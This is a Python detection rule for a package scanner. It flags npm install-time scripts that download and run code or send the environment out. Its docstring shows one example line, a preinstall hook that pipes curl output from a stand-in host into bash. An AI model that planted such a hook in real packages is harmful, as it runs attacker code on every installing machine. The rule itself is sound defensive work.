"""What it sees
    A script that installation runs and that downloads code and executes it, decodes text and executes it, sends the
    environment away, or runs a file that is not code.

Why it matters
    `npm install` is enough; nobody has to import or start anything.

Example
    {"scripts": {"preinstall": "curl -s https://a.test/x | bash"}}

What to do
    Do not install. Use `--ignore-scripts` to look at it.

False alarms
    Installers of well-known tools are reported lower.

References
    ATT&CK T1195.001, T1105, T1059.
"""

from collections.abc import Iterator

from lazaretto.detect.commands import need_whole, uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.detect.rules.manifest.lifecycle_script import automatic_scripts, closure
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.manifests import PackageJson
from lazaretto.parse.shell_facts import Trait

_OTHER_RULES = frozenset({Trait.HIDDEN_FILE_RUN, Trait.ASSET_RUN})


def check(view: PackageJson) -> Iterator[Match | Signal]:
    """Judge each automatic script and the scripts that it starts."""
    facts = view.facts
    seen: set[str] = set()
    for name in automatic_scripts(view):
        for called, fact in closure(facts, name):
            danger = uninvited(fact)
            if (
                danger is not None
                and called not in seen
                and fact.first(*(trait for trait in Trait if trait not in _OTHER_RULES))
            ):
                seen.add(called)
                yield danger.match(called, view.script_line(called), view.scripts[called])
    need_whole(*(facts[name] for name in automatic_scripts(view)))


RULE = Rule(
    id="npm/lifecycle-downloads-code",
    title=N_("Installation downloads code and runs it"),
    view=PackageJson,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.INSTALL,
    role=Role.FETCH,
    check=check,
    doc=__doc__,
    techniques=("T1195.001", "T1105"),
    needles=(b"install", b"prepare", b"prepublish", b'"dependencies"'),
)
